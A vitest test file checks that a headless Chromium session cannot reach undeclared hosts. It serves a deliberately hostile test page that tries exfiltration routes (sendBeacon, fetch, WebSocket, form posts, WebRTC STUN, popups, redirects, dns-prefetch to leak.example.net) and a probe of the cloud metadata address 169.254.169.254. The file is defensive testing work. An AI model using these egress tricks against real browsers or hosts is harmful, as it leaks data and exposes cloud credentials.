import { createSocket, type Socket as UdpSocket } from 'node:dgram';
import { existsSync } from 'node:fs';
import { mkdtemp } from 'node:fs/promises';
import { createServer, type Server } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { BrowserSession, reachArgs } from '../../src/browser/session.js';
import { loopbackServer } from '../helpers/server.js';

const CHROMIUM = process.env.CHROMIUM_PATH ?? '/usr/bin/chromium';
const available = existsSync(CHROMIUM) && process.platform === 'linux';

describe('the launch flags that bound the browser’s reach', () => {
  it('let the host resolver find the declared hosts (and their declared subdomains) only, and the proxy of the environment', () => {
    const args = reachArgs(new Set(['www.douyin.com', '.douyinstatic.com']), { HTTPS_PROXY: 'http://proxy.office.cn:3128' });
    expect(args).toContain('--host-resolver-rules=MAP * ~NOTFOUND, EXCLUDE www.douyin.com, EXCLUDE *.douyinstatic.com, EXCLUDE proxy.office.cn');
    expect(args).toContain('--webrtc-ip-handling-policy=disable_non_proxied_udp');
  });
});

/** Counts every TCP connection and every UDP datagram that reaches 127.0.0.2, an address no recipe declares. */
async function foreignListener(): Promise<{ tcp: Server; udp: UdpSocket; port: number; udpPort: number; seen: string[] }> {
  const seen: string[] = [];
  const tcp = createServer((socket) => {
    seen.push('tcp connection');
    socket.once('data', (data) => seen.push(data.toString('latin1').split('\r\n')[0]!));
    socket.on('error', () => undefined);
    socket.end();
  });
  await new Promise<void>((resolve) => tcp.listen(0, '127.0.0.2', resolve));
  const udp = createSocket('udp4');
  udp.on('message', () => seen.push('udp datagram'));
  await new Promise<void>((resolve) => udp.bind(0, '127.0.0.2', resolve));
  return { tcp, udp, port: (tcp.address() as { port: number }).port, udpPort: udp.address().port, seen };
}

/*
 * A hostile page on a declared host (127.0.0.1, reached directly: no
 * --connect-to, as on a real network) tries every way out the issue found to
 * 127.0.0.2, which must see not even a connection. The page's own frames and
 * workers still load from the declared host.
 */
describe.skipIf(!available)('a page that tries to reach a host its recipe never declared', () => {
  let foreign: Awaited<ReturnType<typeof foreignListener>>;
  let server: Awaited<ReturnType<typeof loopbackServer>>;
  let session: BrowserSession;
  const agents: string[] = [];

  beforeAll(async () => {
    foreign = await foreignListener();
    const away = `127.0.0.2:${foreign.port}`;
    const pages: Record<string, string> = {
      '/': `<html><head>
        <link rel="preconnect" href="http://${away}/"><link rel="dns-prefetch" href="http://leak.example.net/">
        <link rel="prefetch" href="http://${away}/prefetch"><link rel="preload" as="fetch" href="http://${away}/preload">
        </head><body>
        <form id="f" method="post" action="http://${away}/form" target="_blank"><input name="a" value="b"></form>
        <iframe src="/frame"></iframe>
        <script>
          window.open('http://${away}/open');
          window.open('http://169.254.169.254/latest/meta-data/');
          window.open('/popup-on-declared-host');
          window.open('/popup-noopener', '_blank', 'noopener');
          document.getElementById('f').submit();
          try { new WebSocket('ws://${away}/ws'); } catch (e) {}
          new Worker('/worker.js');
          fetch('http://${away}/fetch').catch(function () {});
          navigator.sendBeacon('http://${away}/beacon', 'x');
          var pc = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.2:${foreign.udpPort}' }] });
          pc.createDataChannel('x');
          pc.createOffer().then(function (o) { return pc.setLocalDescription(o); });
          setTimeout(function () { fetch('/api/done'); }, 1500);
        </script></body></html>`,
      '/frame': `<script>window.open('http://${away}/frame-open'); fetch('/api/frame').then(function () { location.href = 'http://${away}/frame-nav'; });</script>`,
      '/worker.js': `fetch('/api/from-worker'); fetch('http://${away}/worker').catch(function () {});`,
      '/meta': `<meta http-equiv="refresh" content="0;url=http://${away}/meta">`,
      '/location': `<script>location.href = 'http://${away}/location';</script>`,
      '/api/done': '{}',
    };
    server = await loopbackServer((req, res) => {
      agents.push(req.headers['user-agent'] ?? '');
      const path = new URL(req.url ?? '/', 'http://x').pathname;
      if (path === '/redirect') return void res.writeHead(302, { location: `http://${away}/redirected` }).end();
      const type = path.endsWith('.js') ? 'text/javascript' : path.startsWith('/api/') ? 'application/json' : 'text/html';
      res.writeHead(200, { 'content-type': type }).end(pages[path] ?? '{}');
    });
    session = await BrowserSession.open({
      launch: { choice: { executablePath: CHROMIUM, label: 'chromium' }, profileDir: await mkdtemp(join(tmpdir(), 'gov-audit-reach-')), headless: true },
      connectTo: [],
      allowedHosts: new Set(['127.0.0.1']),
      pageTimeoutMs: 10_000,
    });
  }, 60_000);

  afterAll(async () => {
    await session?.close();
    await server?.close();
    foreign?.tcp.close();
    foreign?.udp.close();
  });

  const paths = () => server.seen.map((s) => new URL(s.url, 'http://x').pathname);
  const until = async (what: () => boolean) => {
    for (let tries = 0; !what() && tries < 300; tries++) await new Promise((r) => setTimeout(r, 100));
  };

  it('opens no popup, tab, frame navigation, WebSocket, worker request, preconnect, beacon or WebRTC towards it', async () => {
    const captured = await session.visit({ url: `${server.origin}/`, answers: [{ name: 'done', paths: ['/api/done'] }], blocks: [] }, AbortSignal.timeout(60_000));
    expect(captured.unfinished).toBeUndefined();
    expect(captured.answers.done).toBeDefined();
    // The page's own frame and worker loaded from the declared host; its popups, even there, did not.
    await until(() => paths().includes('/api/frame') && paths().includes('/api/from-worker'));
    expect(paths()).toEqual(expect.arrayContaining(['/', '/frame', '/worker.js', '/api/frame', '/api/from-worker', '/api/done']));
    expect(paths()).not.toContain('/popup-on-declared-host');
    expect(paths()).not.toContain('/popup-noopener');
    await new Promise((r) => setTimeout(r, 1500));
    expect(foreign.seen).toEqual([]);
    expect(agents.filter((ua) => /Headless/.test(ua))).toEqual([]);
  }, 90_000);

  it('follows no redirect, meta refresh or scripted navigation towards it', async () => {
    for (const start of ['/redirect', '/meta', '/location']) {
      const page = await session.newPage();
      const refused = page.waitForEvent('requestfailed', { predicate: (r) => r.url().includes('127.0.0.2'), timeout: 30_000 });
      await page.goto(`${server.origin}${start}`).catch(() => undefined);
      await refused;
      await page.close();
    }
    await new Promise((r) => setTimeout(r, 1000));
    expect(paths()).toEqual(expect.arrayContaining(['/redirect', '/meta', '/location']));
    expect(foreign.seen).toEqual([]);
  }, 120_000);
});
